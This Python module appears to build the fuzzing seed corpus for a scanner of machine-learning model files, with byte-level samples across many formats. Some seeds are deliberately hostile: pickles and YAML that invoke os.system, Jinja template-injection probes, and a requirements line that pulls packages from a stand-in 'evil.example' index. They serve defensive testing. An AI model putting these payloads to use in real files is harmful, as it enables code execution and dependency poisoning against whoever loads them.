"""What the fuzzer starts from: files that the tests write, opcode by opcode; nothing of anybody else's."""

from __future__ import annotations

import bz2
import gzip
import json
import lzma
import struct
import zlib
from pathlib import Path

from benchmarks.fuzz.targets import NAMES
from support import ROOT
from support.pickled import (
    EVIL,
    PLAIN,
    call,
    framed,
    legacy,
    name,
    row,
    state_dict,
    storage,
    stream,
    tensor,
    text,
    torch_zip,
)
from support.scanned_files import POINTER, TENSOR, safetensors, tarred, zipped
from tools.rule_examples import EXAMPLES

CONFIG = {
    "architecture": "resnet18",
    "auto_map": {"AutoModel": "org/model--net.Net"},
    "pretrained_cfg": {"hf_hub_id": "timm/resnet18", "url": "https://example.org", "mean": [0.485, 1e-3]},
    "text_config": {"trust_remote_code": True, "_attn_implementation": "org/kernel"},
    "chat_template": "{% for m in messages %}{{ m['content'] | trim }}{% endfor %}",
}
INDEX = {"metadata": {"total_size": 4}, "weight_map": {"a": "x-1.safetensors", "b": "x-2.safetensors"}}
TEMPLATE = (
    b"{%- set ns = namespace(a=1) -%}{% if a.__class__ %}{{ a['_b'] ~ f(1) }}{% endif %}{% macro f(x) %}{% endmacro %}"
)
PYTHON = b"from __future__ import annotations\nimport torch.nn as nn, os\n\nclass A(nn.Module):\n    x: int = 1\n"


def array(descr: object = "<f4", version: int = 1) -> bytes:
    """A small NumPy file."""
    described = repr({"descr": descr, "fortran_order": False, "shape": (1,)}).encode().ljust(100) + b"\n"
    length = struct.pack("<H" if version == 1 else "<I", len(described))
    return b"\x93NUMPY" + bytes([version, 0]) + length + described + bytes(4)


PICKLES = [
    PLAIN,
    EVIL,
    framed(b"}\x94(" + text("a") + b"K\x01u"),
    stream(b"](" + b"K\x01M\x01\x00J\x00\x00\x00\x00G" + bytes(8) + b"\x8a\x01\x01NI01\nF1.5\nL5L\n" + b"e"),
    b"(dp0\nS'a'\np1\nVb\np2\nscos\nsystem\n(S'id'\ntR.",
    stream(name("torch._utils", "_rebuild_tensor_v2") + row(storage(), b"K\x00") + b"R}b"),
    stream(b"\x8c\x02os\x8c\x06system\x93" + row(text("x")) + b"R", 4),
    stream(b"cm\nn\n)\x81}\x92(lo(im\nn\n\x82\x01P1\nq\x00h\x00r\x01\x00\x00\x00j\x01\x00\x00\x00\x94"),
    stream(b"\x8f(K\x01\x90(K\x01\x91\x96" + struct.pack("<Q", 2) + b"ab\x97\x98\x8e" + struct.pack("<Q", 1) + b"c"),
    stream(call("numpy.core.multiarray", "scalar", call("numpy", "dtype", text("f8"), b"\x89\x88"), b"C\x01a")),
    stream(call("_codecs", "encode", text("a"), text("latin1")) + b"\x85\x86\x870120(1"),
]  # fmt: skip
_MADE = ROOT / "tests" / "scanning" / "fixtures"
GRAPHS = {
    ending: [place.read_bytes() for place in sorted(_MADE.rglob(f"*.{ending}")) if place.stat().st_size < 17_000]
    for ending in ("onnx", "gguf", "tflite", "mlmodel")
}
GRAPHS["xml"] = [b"<net version='11'><layer type='Const' version='x'><data offset='0' size='4'/></layer></net>"]
_SAFE = [safetensors(), safetensors({}, b""), safetensors({"__metadata__": {"format": "pt"}, **TENSOR})]
_ZIPS = [
    torch_zip(),
    torch_zip(EVIL),
    zipped(a__b=b"x", c=EVIL, d=array()),
    zipped(x=zipped(y=PLAIN)),
    torch_zip(stream(state_dict(a=tensor(storage("1"), (2, 2), (2, 1)))), data__1=bytes(16), byteorder=b"little"),
]
_JSON = [json.dumps(CONFIG).encode(), b'{"a": NaN, "a": 1e999}', json.dumps(INDEX).encode(), b"[" * 50 + b"]" * 50]
_ARRAYS = [array(), array("|O"), array([("a", "<f4", (2,)), ("b", "O")]), array(version=2), array("2i4,(3,)f8", 3)]
_FIXTURES = Path(__file__).parents[2] / "tests" / "scanning" / "fixtures"
_HDF5 = [place.read_bytes() for place in sorted(_FIXTURES.glob("*/*/*.h5")) if place.stat().st_size < 20_000]
_HDF5 += [EXAMPLES["HC-H5-001"]()["model.h5"], EXAMPLES["HC-H5-002"]()["table.h5"]]
_TENSORFLOW = [
    place.read_bytes()
    for place in sorted((_FIXTURES / "tensorflow").rglob("*"))
    if place.is_file() and 0 < place.stat().st_size < 20_000
] + [EXAMPLES["HC-TF-001"]()["frozen.pb"], EXAMPLES["HC-TF-002"]()["model.json"]]
SEEDS: dict[str, list[bytes]] = {
    "pickle": PICKLES,
    "legacy": [legacy()[len(stream(b"\x8a\x0a" + bytes(10)) + stream(b"J" + bytes(4))) :], legacy(EVIL)[20:]],
    "zip": _ZIPS,
    "members": [b"\x01\x20\x20\x20" + PLAIN, b"\x00\xff\x00\x00" + EVIL, b"\x02\x10\x10\x10" + array("|O") + PLAIN],
    "array": [*_ARRAYS, *(body[10:] for body in _ARRAYS)],
    "safetensors": [*_SAFE, *(body[8:] for body in _SAFE)],
    "index": [json.dumps(INDEX).encode()],
    "config": _JSON,
    "yaml": [
        b"a: !!python/name:os.system\n_target_: x\n",
        b'%TAG !e! tag:yaml.org,2002:python/\n---\na: &b [!e!tuple x, *b]\n? "\\x41"\n: !new:a.b {c: |\n  d}\n',
        b"chat_template: \"{{ a.__class__ }}\"\nb: !<tag:x%41> 'c'\n...\n--- !d\n",
    ],
    "template": [TEMPLATE, b"{{ messages | map(attribute='__class__') }}", b"{% include 'x' %}"],
    "python": [PYTHON, b"import " + b"a." * 30 + b"b", b"x = " + b"(" * 80 + b")" * 80],
    "graph": [body for bodies in GRAPHS.values() for body in bodies],
    "hdf5": _HDF5,
    "tensorflow": _TENSORFLOW,
    "sniff": [*PICKLES, *_ZIPS, *_SAFE, *_JSON, *_ARRAYS, POINTER, tarred(), PYTHON, "é.pt\u202e".encode()],
}
_TAR = tarred()
_SCHEMA = b'{"__module__": "os", "__class__": "system", "__loader__": "TypeNode", "content": [{"__module__": 1}]}'
SEEDS |= {
    "msgpack": [
        b"\x81\xa1w\xc7\x12\x01\x93\x91\x01\xa7float32\xc4\x04" + bytes(4),
        b"\x82\xa1a\xd4\x2a\x00\xa1b\xcb" + bytes(8),
    ],
    "tokenizer": [
        b"\n\x0e\n\x05<unk>\x15" + bytes(4) + b"\x18\x02\x1a\x00",
        *_JSON,
        b'{"vocab":{"a":1,"b":2},"m":[["a","b"],["c","d"]]}',
    ],
    "script": [
        b"def f(x):\n  # no\n  a = getattr(x, \"0\")\n  return ops.image.read_file('a')\n",
        b"q\x01aten::save q",
    ],
    "packed": [
        _TAR,
        gzip.compress(PLAIN),
        gzip.compress(_TAR),
        bz2.compress(EVIL),
        lzma.compress(PLAIN),
        zlib.compress(EVIL),
        b"\x04\x22\x4d\x18\x60\x40\x82\x0a\0\0\0\x41a\x01\x00\x50bcdef" + bytes(4),
    ],
    "requirement": [
        b"torch==2.1 # x\n--extra-index-url=https://evil.example \\\n a @ file:///tmp/a ; python_version < '3'\n",
        b"-i http://pypi.org\\@b/simple --trusted-host=b\ngit+ssh://git@github.com/a/b",
    ],
    "table": [b"PAR1" + b"ARROW:schema\x18\x04QUJD" + struct.pack("<I", 18) + b"PAR1", _SCHEMA],
}
SEEDS["scan"] = [
    bytes([NAMES.index(path)]) + body
    for path, bodies in (
        ("pytorch_model.bin", [PLAIN, EVIL, torch_zip(), legacy(), tarred()]),
        ("model.safetensors", [*_SAFE, EVIL]),
        ("config.json", _JSON),
        ("tokenizer_config.json", _JSON),
        ("a.npy", _ARRAYS),
        ("a.npz", [*_ZIPS, zipped(a=array())]),
        ("chat_template.jinja", [TEMPLATE]),
        ("modeling.py", [PYTHON]),
        ("model.safetensors.index.json", [json.dumps(INDEX).encode()]),
        ("blob", [POINTER, EVIL, *GRAPHS["onnx"][:2]]),
        ("model.onnx", GRAPHS["onnx"]),
        ("m.gguf", GRAPHS["gguf"]),
        ("m.tflite", GRAPHS["tflite"]),
        ("m.mlmodel", GRAPHS["mlmodel"]),
        ("m.xml", GRAPHS["xml"]),
        ("model.h5", _HDF5[:4]),
        ("model.keras", [EXAMPLES["HC-KER-003"]()["model.keras"]]),
        ("saved_model.pb", _TENSORFLOW[:4]),
    )
    for body in bodies
]
# What a byte-wise mutator would rarely hit upon.
WORDS = (
    b"PK\x01\x02", b"PK\x03\x04", b"PK\x05\x06", b"PK\x06\x06", b"PK\x06\x07", b"\x93NUMPY", b"\x80\x02",
    b"\x80\x04\x95",
    b"ccollections\nOrderedDict\n", b"ctorch._utils\n_rebuild_tensor_v2\n", b"ctorch\nFloatStorage\n", b"storage",
    b"data_offsets", b"__metadata__", b"weight_map", b"auto_map", b"trust_remote_code", b"'descr'", b"fortran_order",
    b"external_data", b"location", b"../", b"\x6a\x14\x0a\x08location", b"PyOp", b"TFL3", b"GGUF", b"<!DOCTYPE net>",
    b"HEAP", b"SNOD", b"TREE", b"GCOL", b"OHDR", b"OCHK", b"FRHP", b"FHDB", b"FHIB", b"BTHD", b"BTLF", b"\xff" * 8,
    b"class_name", b"__lambda__", b"WriteFile", b"weightsManifest", b"data.pkl", b"chat_template", b"{{", b"{%",
    b"__class__", b"endfor", b"\\u0000", b"\\ud800",
)  # fmt: skip
